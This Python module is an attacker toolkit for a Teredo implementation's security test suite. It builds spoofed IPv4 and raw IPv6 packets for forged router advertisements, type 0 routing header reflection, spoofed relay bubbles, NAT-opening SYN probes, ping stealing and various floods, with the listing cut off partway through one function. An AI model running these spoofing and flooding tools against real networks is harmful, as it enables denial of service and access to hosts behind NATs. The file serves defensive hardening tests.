#!/usr/bin/env python3
"""tests/attacks/atk.py - the attacker's tools for tests/attacks/ (issue 5,
[guard]): Teredo packets built from bytes (no scapy), spoofed IPv4 sources
by a raw socket (IP_HDRINCL).  Each command prints one JSON object.

  ra-spoof   --client IP:PORT --servers A,B --mapped IP:PORT [--prefix-server A]
             [--duration S] [--interval S]
      Router advertisements "from" SERVER:3544 (spoofed) to the client's
      mapping, with a random nonce (D4, CLI-SQ-2: it cannot match the RS)
      and an origin indication naming MAPPED: a client that accepts one
      takes the attacker's mapping into its address.
  echo-spoof --client IP:PORT --dst TEREDO --src IPV6 [--duration S]
      ICMPv6 echo replies from SRC (a native host the client is ping-
      testing, CLI-TX-2) with a wrong nonce (CLI-RX-5), from our own UDP
      socket: a client that accepts one trusts us as SRC's relay and sends
      us its queued packet, which we report (received, to).
  rh0        --client IP:PORT --dst TEREDO --server IP --me IP
             [--victim IPV6] [--wait S]
      From our own Teredo address (our IP:port, a valid direct peer):
      a plain echo request (control: the echo reply must come), then an
      echo request behind a type 0 routing header with segments left 1
      (D25, HARD-1, CVE-2006-6263): a host stack that sees it answers
      with an ICMPv6 Parameter Problem, reflected to us.
  spoof-bubble --via SERVER --src-ep IP:PORT --dst TEREDO [--count N]
      Bubbles "from" SRC-EP (spoofed IPv4 source) to SERVER:3544, with the
      Teredo source embedding SRC-EP: the server relays them with SRC-EP
      as origin indication, and a client that answers sends a direct
      bubble to SRC-EP (HARD-4, CVE-2006-6264: an internal address).
  syn        --server IP --dst TEREDO --me IP --ports P,... [--wait S]
      Bubble-to-open (CVE-2006-6265): an indirect bubble through SERVER;
      once the client's direct bubble has opened its NAT to us, a TCP SYN
      to each port; reports which were answered with SYN-ACK.
  rs-flood   --server IP --id HEX --key FILE [--count N] [--rate R]
             [--wait S] [--sources N] [--src-from IP] [--burst B]
      Router solicitations with a valid HMAC (SRV-OP-5): counts the RAs.
      SOURCES sockets, bound to SRC-FROM and the addresses after it when
      given (addresses of our own host: the server answers them), take
      turns, B solicitations each.
  rs-probe   --server IP --id HEX --key FILE [--count N] [--interval S]
      A legitimate client: N solicitations, counts the RAs answered.
  slowpeer   --server IP --me IP --port P [--delay S] [--duration S]
      A legitimate Teredo client (its own public mapping) that answers the
      relay's first bubble DELAY seconds late; counts what reaches it.
  flood6     --count N [--size B] [--dsts N] [--rate R] [--server IP]
             [--ports-from P] [--dst TEREDO]
      From the native net: UDP datagrams of B bytes to DSTS distinct
      Teredo addresses (flags 0: restricted clients that do not exist).
  echo-flood --client IP:PORT --dst TEREDO [--bind PORT] [--rate R]
             [--duration S] [--src-prefix P]
      From our own UDP socket (a relay endpoint we control): ICMPv6 echo
      requests to the client, each from a new native source P::N
      (CLI-RX-9: each would start a connectivity test, [harden] item 2).
  bubble-flood --client IP:PORT --dst TEREDO --server IP --me IP --port P
             [--count N] [--rate R]
      Direct bubbles from our IP:port, each from another Teredo address
      embedding it (flag bits varied; CLI-RX-6 trusts each, item 3).
  reflect-flood --via SERVER --src-ep IP:PORT --dst TEREDO [--count N]
             [--rate R]
      spoof-bubble with a new Teredo source each time (flag and server
      bits varied), all embedding SRC-EP: without a budget per origin the
      client bubbles SRC-EP once per bubble (item 7).
  flow       --server IP --dst TEREDO --me IP --port P --tcp P --udp P
             [--wait S]
      Bubble-to-open, then a SYN to the TCP port and a datagram to the
      UDP port, before and after one echo request is answered: the
      kernel's echo reply must not open the host to us (item 8).
  frag       --client IP:PORT --dst TEREDO --src IPV6 --bind PORT
             [--count N] [--interval S]
      Non-first fragments of a UDP packet from SRC, from our UDP socket
      (item 9).
  udp-answer --server IP --me IP --port P [--listen P] [--wait S]
             [--ready FILE]
      Our Teredo address's UDP port LISTEN answers every datagram (a flow
      the client host's application opened to us); bubbles are answered
      with a bubble.  Reports what came and what was answered.
  ping-steal --client IP:PORT --me6 IPV6 --spoof-ep IP:PORT [--delay S]
             [--wait S] [--ready FILE]
      A native host we own (its kernel ignores echo requests): every
      connectivity test of the client (echo request with 8 bytes of
      nonce) is answered twice: at once, in Teredo, from the spoofed IPv4
      endpoint SPOOF-EP straight to the client's mapping, then after
      DELAY natively, through the real relay (item 11, CLI-RX-5).
  sink       --bind IP [--port P,...] [--duration S]
      A host that counts the Teredo bubbles it receives on its ports (a
      victim of the relay's bubbles, or the server of addresses nobody
      answers for), per IPv6 destination: how many rounds each got.
  echo6-spoof --dst IPV6 --server IP --mapped IP:PORT [--count N]
             [--rate R]
      From the native net (raw IPv6): echo requests to DST from N
      Teredo sources of server SERVER and mapping MAPPED (flag bits
      varied), so that DST's host answers N Teredo addresses (the
      attacker's way to make a host-specific relay bubble).
  trust-fill --me IP --ports P,... --per N --relay IP [--server IP]
             [--duration S] [--interval S]
      One attacker holding both sides (issue 10 item 1): from the native
      net, a datagram every INTERVAL to each of N Teredo addresses per
      mapping ME:P (the flag bits free: one mapping, 2^16 addresses and
      more); from ME:P, an answer bubble to each bubble or packet the
      relay sends for one of them, which makes the relay trust it.
  rh6        --dst TEREDO --kind rh0-sl0|chain [--count N] [--wait S]
      From the native net (raw IPv6): echo requests to DST behind a
      routing header: "rh0-sl0" a type 0 header with Segments Left 0 (a
      packet source-routed to the relay, issue 10 item 10), "chain" the
      chain [RH2 SL0][RH0 SL1]; counts the echo replies.
"""
import argparse
import hashlib
import hmac
import ipaddress
import json
import os
import random
import select
import socket
import struct
import sys
import time

# The packet builders the namespace tests share (tests/netns/teredo_echo.py).
sys.path.insert(0, os.path.join(os.path.dirname(os.path.abspath(__file__)),
                                "..", "netns"))
from teredo_echo import (ALL_ROUTERS, CLIENT_LL, TEREDO_PORT, csum,  # noqa: E402,E501
                         ip6, strip_teredo, teredo_addr, upper_csum)


def icmp6_msg(src, dst, typ, code, body):
    msg = struct.pack("!BBH", typ, code, 0) + body
    c = upper_csum(src, dst, 58, msg)
    return msg[:2] + struct.pack("!H", c) + msg[4:]


def icmp6(src, dst, typ, code, body, hlim=64):
    return ip6(src, dst, 58, icmp6_msg(src, dst, typ, code, body), hlim)


def bubble(src, dst):
    return ip6(src, dst, 59, b"", 64)


def server_ll(server):
    """COM-LL-2: fe80::8000:<~3544>:<~server IPv4>."""
    return (b"\xfe\x80" + bytes(6) + struct.pack("!HH", 0x8000,
            TEREDO_PORT ^ 0xFFFF) +
            bytes(b ^ 0xFF for b in ipaddress.IPv4Address(server).packed))


def origin_ind(ip, port):
    return struct.pack("!HH", 0, port ^ 0xFFFF) + \
        bytes(b ^ 0xFF for b in ipaddress.IPv4Address(ip).packed)


def ep(s):
    host, port = s.rsplit(":", 1)
    return host, int(port)


def a6(b):
    return str(ipaddress.IPv6Address(b))


def final_nh(pkt):
    """(next header, offset) of the upper layer of an IPv6 packet."""
    nh, off = pkt[6], 40
    while nh in (0, 43, 60) and off + 2 <= len(pkt):
        nh, off = pkt[off], off + (pkt[off + 1] + 1) * 8
    return nh, off


class Raw4:
    """Spoofed IPv4/UDP datagrams (IP_HDRINCL)."""

    def __init__(self):
        self.s = socket.socket(socket.AF_INET, socket.SOCK_RAW,
                               socket.IPPROTO_RAW)
        self.s.setsockopt(socket.IPPROTO_IP, socket.IP_HDRINCL, 1)
        self.ident = random.randrange(65536)

    def send(self, src, dst, payload):
        (sip, sport), (dip, dport) = src, dst
        udp = struct.pack("!HHHH", sport, dport, 8 + len(payload), 0) + payload
        self.ident = (self.ident + 1) & 0xFFFF
        hdr = struct.pack("!BBHHHBBH4s4s", 0x45, 0, 20 + len(udp), self.ident,
                          0x4000, 64, 17, 0,
                          ipaddress.IPv4Address(sip).packed,
                          ipaddress.IPv4Address(dip).packed)
        hdr = hdr[:10] + struct.pack("!H", (~csum(hdr)) & 0xFFFF) + hdr[12:]
        self.s.sendto(hdr + udp, (dip, 0))


def out(obj):
    print(json.dumps(obj, sort_keys=True), flush=True)


def recv_all(s, until, want=None):
    """Datagrams until the time (or until want(data, frm) is true)."""
    got = []
    while True:
        left = until - time.monotonic()
        if left <= 0:
            return got
        r, _, _ = select.select([s], [], [], left)
        if not r:
            return got
        data, frm = s.recvfrom(65535)
        got.append((data, frm))
        if want is not None and want(data, frm):
            return got


# ---- ra-spoof ----------------------------------------------------------------

def build_ra(server, mapped, nonce):
    prefix = b"\x20\x01\x00\x00" + ipaddress.IPv4Address(server).packed + \
        bytes(8)
    # RFC 4861 4.2: hop limit, flags, lifetime 1800 s, reachable, retrans;
    # Prefix Information (type 3, len 4): /64, L=0 A=1, lifetimes.
    body = struct.pack("!BBHII", 0, 0, 1800, 0, 0)
    body += struct.pack("!BBBBIII", 3, 4, 64, 0x40, 0xFFFFFFFF, 0xFFFFFFFF,
                        0) + prefix
    src = server_ll(server)
    pkt = icmp6(src, CLIENT_LL, 134, 0, body, hlim=255)
    auth = b"\x00\x01\x00\x00" + nonce + b"\x00"
    return auth + origin_ind(*mapped) + pkt


def cmd_ra_spoof(a):
    raw = Raw4()
    client = ep(a.client)
    mapped = ep(a.mapped)
    servers = a.servers.split(",")
    pserver = a.prefix_server or servers[0]
    sent = 0
    end = time.monotonic() + a.duration
    while time.monotonic() < end:
        for srv in servers:
            raw.send((srv, TEREDO_PORT), client,
                     build_ra(pserver, mapped, os.urandom(8)))
            sent += 1
        time.sleep(a.interval)
    out({"sent": sent})


# ---- echo-spoof --------------------------------------------------------------

def cmd_echo_spoof(a):
    s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
    s.bind(("0.0.0.0", a.bind))
    client = ep(a.client)
    dst = ipaddress.IPv6Address(a.dst).packed
    src = ipaddress.IPv6Address(a.src).packed
    sent, received, to = 0, 0, set()
    end = time.monotonic() + a.duration
    while time.monotonic() < end:
        # a wrong nonce: 8 random bytes, a random identifier
        body = struct.pack("!HH", random.randrange(65536), 1) + os.urandom(8)
        s.sendto(icmp6(src, dst, 129, 0, body), client)
        sent += 1
        for data, frm in recv_all(s, time.monotonic() + a.interval):
            pkt, _ = strip_teredo(data)
            if pkt and len(pkt) >= 40:
                received += 1
                to.add(a6(pkt[24:40]))
    out({"sent": sent, "received": received, "to": sorted(to),
         "local": s.getsockname()[1]})


# ---- rh0 -----------------------------------------------------------------------

def rh_chain(addr, nxt):
    """[RH2 SL0][RH0 SL1 addr] before next header nxt: the first is a
    Mobile IPv6 type 2 header with nothing left to do, the second RH0."""
    rh0 = struct.pack("!BBBBI", nxt, 2, 0, 1, 0) + addr
    rh2 = struct.pack("!BBBBI", 43, 2, 2, 0, 0) + bytes(16)
    return rh2 + rh0


def cmd_rh0(a):
    s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
    s.bind((a.me, 0))
    port = s.getsockname()[1]
    me = teredo_addr(a.server, a.me, port)
    client = ep(a.client)
    dst = ipaddress.IPv6Address(a.dst).packed
    victim = ipaddress.IPv6Address(a.victim).packed
    res = {"me": a6(me)}

    def kinds(got):
        k = []
        for data, _ in got:
            pkt, _ = strip_teredo(data)
            if not pkt or len(pkt) < 40:
                continue
            nh, off = final_nh(pkt)
            if nh == 59:
                k.append("bubble")
            elif nh == 58 and off < len(pkt):
                k.append("icmp6-%d" % pkt[off])
            else:
                k.append("nh-%d" % nh)
        return k

    # control: a plain echo request from a valid direct peer
    ident = random.randrange(65536)
    res["control"] = []
    for i in range(3):
        s.sendto(icmp6(me, dst, 128, 0, struct.pack("!HH", ident, i) +
                       b"control!"), client)
        res["control"] += kinds(recv_all(s, time.monotonic() + 0.5))
        if "icmp6-129" in res["control"]:
            break
    # the attack: RH0 (type 0, segments left 1, one address: the victim)
    res["attack"] = []
    for i in range(3):
        echo = icmp6_msg(me, victim, 128, 0,
                         struct.pack("!HH", ident, 100 + i) + b"reflect!")
        rh = struct.pack("!BBBBI", 58, 2, 0, 1, 0) + victim
        s.sendto(ip6(me, dst, 43, rh + echo), client)
        res["attack"] += kinds(recv_all(s, time.monotonic() + a.wait / 3))
    res["param_problem"] = res["attack"].count("icmp6-4")
    # the chain [RH2 SL0][RH0 SL1] (issue 10 item 10): only the first
    # routing header used to be checked
    res["chain"] = []
    for i in range(a.chain):
        echo = icmp6_msg(me, victim, 128, 0,
                         struct.pack("!HH", ident, 200 + i) + b"chained!")
        s.sendto(ip6(me, dst, 43, rh_chain(victim, 58) + echo), client)
        res["chain"] += kinds(recv_all(s, time.monotonic() + 0.3))
    out(res)


# ---- spoof-bubble -----------------------------------------------------------------

def cmd_spoof_bubble(a):
    raw = Raw4()
    sep = ep(a.src_ep)
    src = teredo_addr(a.via, sep[0], sep[1])
    dst = ipaddress.IPv6Address(a.dst).packed
    for _ in range(a.count):
        raw.send(sep, (a.via, TEREDO_PORT), bubble(src, dst))
        time.sleep(a.interval)
    out({"sent": a.count, "src": a6(src)})


# ---- syn ------------------------------------------------------------------------

def tcp_syn(src, dst, sport, dport, seq):
    seg = struct.pack("!HHIIBBHHH", sport, dport, seq, 0, 5 << 4, 0x02,
                      65535, 0, 0)
    c = upper_csum(src, dst, 6, seg)
    return ip6(src, dst, 6, seg[:16] + struct.pack("!H", c) + seg[18:])


def cmd_syn(a):
    s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
    s.bind((a.me, 0))
    port = s.getsockname()[1]
    me = teredo_addr(a.server, a.me, port)
    dst = ipaddress.IPv6Address(a.dst).packed
    res = {"me": a6(me), "opened": False, "synack": {}, "rst": {}}
    peer = None
    # 1. the indirect bubble, until the client's direct bubble opens its NAT
    for _ in range(4):
        s.sendto(bubble(me, dst), (a.server, TEREDO_PORT))
        for data, frm in recv_all(s, time.monotonic() + 0.7):
            if frm[0] != a.server:
                peer = frm
        if peer:
            break
    if peer is None:
        out(res)
        return
    res["opened"] = True
    res["client"] = "%s:%d" % peer
    s.sendto(bubble(me, dst), peer)
    # 2. a SYN to each port, three tries each
    for p in [int(x) for x in a.ports.split(",")]:
        res["synack"][str(p)] = False
        res["rst"][str(p)] = False
        for i in range(3):
            s.sendto(tcp_syn(me, dst, 40000 + i, p, random.randrange(1 << 32)),
                     peer)
            for data, frm in recv_all(s, time.monotonic() + a.wait / 3):
                pkt, _ = strip_teredo(data)
                if not pkt or len(pkt) < 40:
                    continue
                nh, off = final_nh(pkt)
                if nh != 6 or off + 14 > len(pkt):
                    continue
                sp = struct.unpack("!H", pkt[off:off + 2])[0]
                flags = pkt[off + 13]
                if sp == p and flags & 0x12 == 0x12:
                    res["synack"][str(p)] = True
                if sp == p and flags & 0x04:
                    res["rst"][str(p)] = True
            if res["synack"][str(p)]:
                break
    out(res)


# ---- rs-flood / rs-probe ------------------------------------------------------------

def build_rs(cid, key):
    nonce = os.urandom(8)
    rs = icmp6(CLIENT_LL, ALL_ROUTERS, 133, 0, bytes(4), hlim=255)
    mac = hmac.new(key, nonce + b"\x00" + rs, hashlib.sha1).digest()
    return b"\x00\x01" + bytes([len(cid), 20]) + cid + mac + nonce + \
        b"\x00" + rs


def is_ra(data):
    pkt, _ = strip_teredo(data)
    return bool(pkt) and len(pkt) > 40 and pkt[6] == 58 and pkt[40] == 134


def cmd_rs_flood(a):
    key = open(a.key, "rb").read()
    cid = bytes.fromhex(a.id)
    socks = []
    for i in range(a.sources):
        s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
        s.setsockopt(socket.SOL_SOCKET, socket.SO_RCVBUF, 4 << 20)
        if a.src_from:
            s.bind((str(ipaddress.IPv4Address(a.src_from) + i), 0))
        s.setblocking(False)
        socks.append(s)
    srv = (a.server, TEREDO_PORT)
    pkts = [build_rs(cid, key) for _ in range(64)]
    sent = ras = 0
    start = time.monotonic()
    gap = 1.0 / a.rate if a.rate else 0
    nxt = start

    def drain():
        n = 0
        for s in socks:
            while True:
                try:
                    data, _ = s.recvfrom(2048)
                except BlockingIOError:
                    break
                n += is_ra(data)
        return n

    for i in range(a.count):
        try:
            socks[(i // a.burst) % len(socks)].sendto(pkts[i % len(pkts)],
                                                      srv)
            sent += 1
        except (BlockingIOError, OSError):
            pass
        if gap:
            nxt += gap
            d = nxt - time.monotonic()
            if d > 0:
                time.sleep(d)
        if i % 256 == 0:
            ras += drain()
    elapsed = time.monotonic() - start
    end = time.monotonic() + a.wait
    while time.monotonic() < end:
        select.select(socks, [], [], 0.05)
        ras += drain()
    out({"sent": sent, "ras": ras, "seconds": round(elapsed, 3)})


def cmd_rs_probe(a):
    key = open(a.key, "rb").read()
    cid = bytes.fromhex(a.id)
    s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
    srv = (a.server, TEREDO_PORT)
    answered = 0
    for _ in range(a.count):
        s.sendto(build_rs(cid, key), srv)
        got = recv_all(s, time.monotonic() + a.interval,
                       lambda d, f: is_ra(d))
        if any(is_ra(d) for d, _ in got):
            answered += 1
            time.sleep(max(0, a.interval - 0.0))
    out({"sent": a.count, "answered": answered})


# ---- slowpeer -----------------------------------------------------------------------

def cmd_slowpeer(a):
    """A legitimate Teredo client with its own public mapping (no NAT)
    that answers the relay's first bubble only after DELAY seconds, so
    that the relay must queue its traffic meanwhile; counts the non-bubble
    packets to its address."""
    s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
    s.bind((a.me, a.port))
    me = teredo_addr(a.server, a.me, a.port)
    print(json.dumps({"teredo": a6(me)}), flush=True)
    res = {"teredo": a6(me), "bubbles": 0, "received": 0, "answered": False}
    answer_at = answer = None
    end = time.monotonic() + a.duration
    while time.monotonic() < end:
        until = end if answer_at is None or res["answered"] else answer_at
        for data, frm in recv_all(s, until, lambda d, f: True):
            pkt, origin = strip_teredo(data)
            if not pkt or len(pkt) < 40 or pkt[24:40] != me:
                continue
            if final_nh(pkt)[0] == 59 and pkt[4:6] == b"\0\0":
                res["bubbles"] += 1
                if answer_at is None:
                    answer_at = time.monotonic() + a.delay
                    answer = (pkt[8:24], origin or frm)
            else:
                res["received"] += 1
        if (answer_at is not None and not res["answered"] and
                time.monotonic() >= answer_at):
            s.sendto(bubble(me, answer[0]), answer[1])
            res["answered"] = True
            res["answered_to"] = "%s:%d" % answer[1]
    out(res)


# ---- flood6 ------------------------------------------------------------------------

def cmd_flood6(a):
    s = socket.socket(socket.AF_INET6, socket.SOCK_DGRAM)
    s.setsockopt(socket.SOL_SOCKET, socket.SO_SNDBUF, 4 << 20)
    rnd = random.Random(a.seed)
    dsts = [(a.dst, 9)] if a.dst else []
    for i in range(0 if a.dst else a.dsts):
        # global mappings on the public nets, ports that nobody has
        ip = "198.51.100.%d" % (200 + rnd.randrange(50))
        dsts.append((a6(teredo_addr(a.server, ip, a.ports_from + i)), 9))
    data = b"\xa5" * a.size
    sent = err = 0
    start = time.monotonic()
    gap = 1.0 / a.rate if a.rate else 0
    nxt = start
    for i in range(a.count):
        try:
            s.sendto(data, dsts[i % len(dsts)])
            sent += 1
        except OSError:
            err += 1
        if gap and i % 16 == 15:
            nxt += 16 * gap
            d = nxt - time.monotonic()
            if d > 0:
                time.sleep(d)
    out({"sent": sent, "errors": err,
         "seconds": round(time.monotonic() - start, 3)})


# ---- [harden] client attacks ---------------------------------------------------

class Pacer:
    """Sleep so that the i-th event is at start + i / rate (0: no pacing)."""

    def __init__(self, rate):
        self.gap = 1.0 / rate if rate else 0
        self.start = time.monotonic()

    def wait(self, i):
        if self.gap:
            d = self.start + i * self.gap - time.monotonic()
            if d > 0:
                time.sleep(d)

    def elapsed(self):
        return round(time.monotonic() - self.start, 3)


def udp6_pkt(src, dst, sport, dport, data):
    seg = struct.pack("!HHHH", sport, dport, 8 + len(data), 0) + data
    c = upper_csum(src, dst, 17, seg)
    return ip6(src, dst, 17, seg[:6] + struct.pack("!H", c) + seg[8:])


def cmd_echo_flood(a):
    s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
    s.bind(("0.0.0.0", a.bind))
    s.setblocking(False)
    client = ep(a.client)
    dst = ipaddress.IPv6Address(a.dst).packed
    base = int(ipaddress.IPv6Address(a.src_prefix))
    pace = Pacer(a.rate)
    sent = i = 0
    end = time.monotonic() + a.duration
    while time.monotonic() < end:
        src = ipaddress.IPv6Address(base + 0x10000 + i).packed
        body = struct.pack("!HH", 0x5eed, i & 0xFFFF) + b"flood!!!"
        try:
            s.sendto(icmp6(src, dst, 128, 0, body), client)
            sent += 1
        except OSError:
            pass
        try:		# whatever comes back (nothing should)
            while s.recvfrom(2048):
                pass
        except (BlockingIOError, OSError):
            pass
        i += 1
        pace.wait(i)
    out({"sent": sent, "sources": i, "seconds": pace.elapsed(),
         "local": s.getsockname()[1]})


def flags_for(i):
    """Teredo flag bits for the i-th address of a flood: the cone bit
    and the low bits left alone, 2^12 distinct values."""
    return ((i % 4096) << 2) & 0x7FFC


def cmd_bubble_flood(a):
    s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
    s.setsockopt(socket.SOL_SOCKET, socket.SO_SNDBUF, 4 << 20)
    s.bind((a.me, a.port))
    client = ep(a.client)
    dst = ipaddress.IPv6Address(a.dst).packed
    pace = Pacer(a.rate)
    sent = 0
    for i in range(a.count):
        src = teredo_addr(a.server, a.me, a.port, flags_for(i + 1))
        if i >= 4095:	# then the server bits too
            src = src[:4] + struct.pack("!I", 0xC6336400 + i // 4095) + \
                src[8:]
        try:
            s.sendto(bubble(src, dst), client)
            sent += 1
        except OSError:
            pass
        pace.wait(i + 1)
    out({"sent": sent, "seconds": pace.elapsed()})


def cmd_reflect_flood(a):
    raw = Raw4()
    sep = ep(a.src_ep)
    dst = ipaddress.IPv6Address(a.dst).packed
    pace = Pacer(a.rate)
    sent = 0
    for i in range(a.count):
        src = teredo_addr(a.via, sep[0], sep[1], flags_for(i + 1))
        if i >= 4095:
            src = src[:4] + struct.pack("!I", 0xC0000264 + i // 4095) + \
                src[8:]
        try:
            raw.send(sep, (a.via, TEREDO_PORT), bubble(src, dst))
            sent += 1
        except OSError:
            pass
        pace.wait(i + 1)
    out({"sent": sent, "seconds": pace.elapsed()})


def kinds_of(got, me):
    """(kind, sport) of the IPv6 packets to me in datagrams got."""
    k = []
    for data, _ in got:
        pkt, _ = strip_teredo(data)
        if not pkt or len(pkt) < 40 or pkt[24:40] != me:
            continue
        nh, off = final_nh(pkt)
        sp = struct.unpack("!H", pkt[off:off + 2])[0] \
            if off + 2 <= len(pkt) else 0
        if nh == 59:
            k.append(("bubble", 0))
        elif nh == 58 and off < len(pkt):
            k.append(("icmp6-%d" % pkt[off], 0))
        elif nh == 6 and off + 14 <= len(pkt):
            f = pkt[off + 13]
            k.append(("synack" if f & 0x12 == 0x12 else
                      "rst" if f & 0x04 else "tcp", sp))
        elif nh == 17:
            k.append(("udp", sp))
        else:
            k.append(("nh-%d" % nh, 0))
    return k


def cmd_flow(a):
    s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
    s.bind((a.me, a.port))
    me = teredo_addr(a.server, a.me, a.port)
    dst = ipaddress.IPv6Address(a.dst).packed
    res = {"me": a6(me), "opened": False}
    peer = None
    for _ in range(4):		# bubble-to-open, as in cmd_syn
        s.sendto(bubble(me, dst), (a.server, TEREDO_PORT))
        for data, frm in recv_all(s, time.monotonic() + 0.7):
            if frm[0] != a.server:
                peer = frm
        if peer:
            break
    if peer is None:
        out(res)
        return
    res["opened"] = True
    res["client"] = "%s:%d" % peer
    s.sendto(bubble(me, dst), peer)		# CLI-RX-6: trusted, unsolicited

    def probe(tag):
        """A SYN to the TCP port, a datagram to the UDP port."""
        got = []
        for i in range(3):
            s.sendto(tcp_syn(me, dst, 40000 + i, a.tcp,
                             random.randrange(1 << 32)), peer)
            s.sendto(udp6_pkt(me, dst, 41000 + i, a.udp, b"hello?"), peer)
            got += kinds_of(recv_all(s, time.monotonic() + a.wait / 3), me)
        res[tag] = {"synack": ("synack", a.tcp) in got,
                    "rst": ("rst", a.tcp) in got,
                    "udp": ("udp", a.udp) in got}

    probe("before")
    ident = random.randrange(65536)
    got = []
    for i in range(3):
        s.sendto(icmp6(me, dst, 128, 0, struct.pack("!HH", ident, i) +
                       b"one ping"), peer)
        got += kinds_of(recv_all(s, time.monotonic() + 0.5), me)
        if ("icmp6-129", 0) in got:
            break
    res["ping_answered"] = ("icmp6-129", 0) in got
    probe("after")
    out(res)


def cmd_frag(a):
    s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
    s.bind(("0.0.0.0", a.bind))
    client = ep(a.client)
    src = ipaddress.IPv6Address(a.src).packed
    dst = ipaddress.IPv6Address(a.dst).packed
    for i in range(a.count):
        # fragment header: next header UDP, offset 8 (x 8 bytes), M = 0
        fh = struct.pack("!BBHI", 17, 0, 8 << 3, 0x5eed0000 + i)
        s.sendto(ip6(src, dst, 44, fh + b"\x77" * 16), client)
        time.sleep(a.interval)
    out({"sent": a.count})


def cmd_udp_answer(a):
    s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
    s.bind((a.me, a.port))
    me = teredo_addr(a.server, a.me, a.port)
    res = {"me": a6(me), "datagrams": 0, "answered": 0, "bubbles": 0}
    if a.ready:
        open(a.ready, "w").close()
    end = time.monotonic() + a.wait
    while time.monotonic() < end:
        got = recv_all(s, end, lambda d, f: True)	# one at a time
        if not got:
            break
        data, frm = got[0]
        pkt, _ = strip_teredo(data)
        if not pkt or len(pkt) < 40 or pkt[24:40] != me:
            continue
        nh, off = final_nh(pkt)
        if nh == 59:
            res["bubbles"] += 1
            s.sendto(bubble(me, pkt[8:24]), frm)
        elif nh == 17 and off + 8 <= len(pkt):
            sp, dp = struct.unpack("!HH", pkt[off:off + 4])
            if dp != a.listen:
                continue
            res["datagrams"] += 1
            s.sendto(udp6_pkt(me, pkt[8:24], dp, sp, b"answer"), frm)
            res["answered"] += 1
    out(res)


def cmd_ping_steal(a):
    r = socket.socket(socket.AF_INET6, socket.SOCK_RAW, socket.IPPROTO_ICMPV6)
    w = socket.socket(socket.AF_INET6, socket.SOCK_RAW, socket.IPPROTO_ICMPV6)
    raw = Raw4()
    client = ep(a.client)
    sep = ep(a.spoof_ep)
    res = {"tests": 0, "spoofed": 0, "genuine": 0}
    pending = []
    if a.ready:
        open(a.ready, "w").close()
    end = time.monotonic() + a.wait
    while time.monotonic() < end:
        now = time.monotonic()
        until = min([end] + [t for t, _, _ in pending])
        rd, _, _ = select.select([r], [], [], max(0, until - now))
        if rd:
            # a raw ICMPv6 socket: the ICMPv6 message, the source in the
            # address; the destination is ours
            msg, frm = r.recvfrom(2048)
            if len(msg) == 16 and msg[0] == 128:
                src = ipaddress.IPv6Address(frm[0].split("%")[0]).packed
                ident, seq = struct.unpack("!HH", msg[4:8])
                body = msg[4:]
                res["tests"] += 1
                # our own address: the test's destination
                mine = ipaddress.IPv6Address(a.me6).packed
                raw.send(sep, client, icmp6(mine, src, 129, 0, body))
                res["spoofed"] += 1
                pending.append((time.monotonic() + a.delay, frm[0], body))
        for item in [p for p in pending if p[0] <= time.monotonic()]:
            pending.remove(item)
            # the kernel computes the checksum of raw ICMPv6 sockets
            w.sendto(struct.pack("!BBH", 129, 0, 0) + item[2], (item[1], 0))
            res["genuine"] += 1
    out(res)


# ---- sink ------------------------------------------------------------------------

def cmd_sink(a):
    socks = []
    for port in a.port.split(","):
        s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
        # SO_RCVBUFFORCE (root): bursts of hundreds of bubbles
        s.setsockopt(socket.SOL_SOCKET, 33, 16 << 20)
        s.bind((a.bind, int(port)))
        s.setblocking(False)
        socks.append(s)
    print(json.dumps({"listening": "%s:%s" % (a.bind, a.port)}), flush=True)
    per = {}
    res = {"datagrams": 0, "bytes": 0, "bubbles": 0, "other": 0}
    end = time.monotonic() + a.duration
    got = []
    while time.monotonic() < end:
        r, _, _ = select.select(socks, [], [], end - time.monotonic())
        for s in r:
            while True:
                try:
                    got.append(s.recvfrom(65535))
                except BlockingIOError:
                    break
    for data, _ in got:
        res["datagrams"] += 1
        res["bytes"] += len(data)
        pkt, _ = strip_teredo(data)
        if pkt and len(pkt) >= 40 and final_nh(pkt)[0] == 59:
            res["bubbles"] += 1
            d = a6(pkt[24:40])
            per[d] = per.get(d, 0) + 1
        else:
            res["other"] += 1
    hist = {}
    for n in per.values():
        hist[str(n)] = hist.get(str(n), 0) + 1
    res["dsts"] = len(per)
    res["rounds"] = hist
    out(res)


# ---- echo6-spoof ------------------------------------------------------------------

def cmd_echo6_spoof(a):
    raw = socket.socket(socket.AF_INET6, socket.SOCK_RAW, socket.IPPROTO_RAW)
    raw.setsockopt(socket.SOL_SOCKET, socket.SO_SNDBUF, 4 << 20)
    dst = ipaddress.IPv6Address(a.dst).packed
    mip, mport = ep(a.mapped)
    ident = random.randrange(65536)
    sent = err = 0
    start = nxt = time.monotonic()
    for i in range(a.count):
        # flag bits: the 12 random ones (RFC 5991 §4), C, R, U, G clear
        src = teredo_addr(a.server, mip, mport,
                          ((i & 0xf00) << 2) | (i & 0xff))
        try:
            raw.sendto(icmp6(src, dst, 128, 0, struct.pack("!HH", ident, i)),
                       (a.dst, 0))
            sent += 1
        except OSError:
            err += 1
        nxt += 1.0 / a.rate
        d = nxt - time.monotonic()
        if d > 0:
            time.sleep(d)
    out({"sent": sent, "errors": err,
         "seconds": round(time.monotonic() - start, 3)})


# ---- trust-fill -------------------------------------------------------------------

def cmd_trust_fill(a):
    relay = (a.relay, TEREDO_PORT)
    native = socket.socket(socket.AF_INET6, socket.SOCK_DGRAM)
    native.setsockopt(socket.SOL_SOCKET, socket.SO_SNDBUF, 4 << 20)
    socks, targets = [], {}
    for port in [int(x) for x in a.ports.split(",")]:
        s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
        s.setsockopt(socket.SOL_SOCKET, 33, 4 << 20)
        s.bind((a.me, port))
        socks.append(s)
        for k in range(a.per):
            # the flag bits are the attacker's (cone bit clear): one
            # mapping, as many addresses as wanted
            t = teredo_addr(a.server, a.me, port, 0x0100 + k)
            targets[t] = s
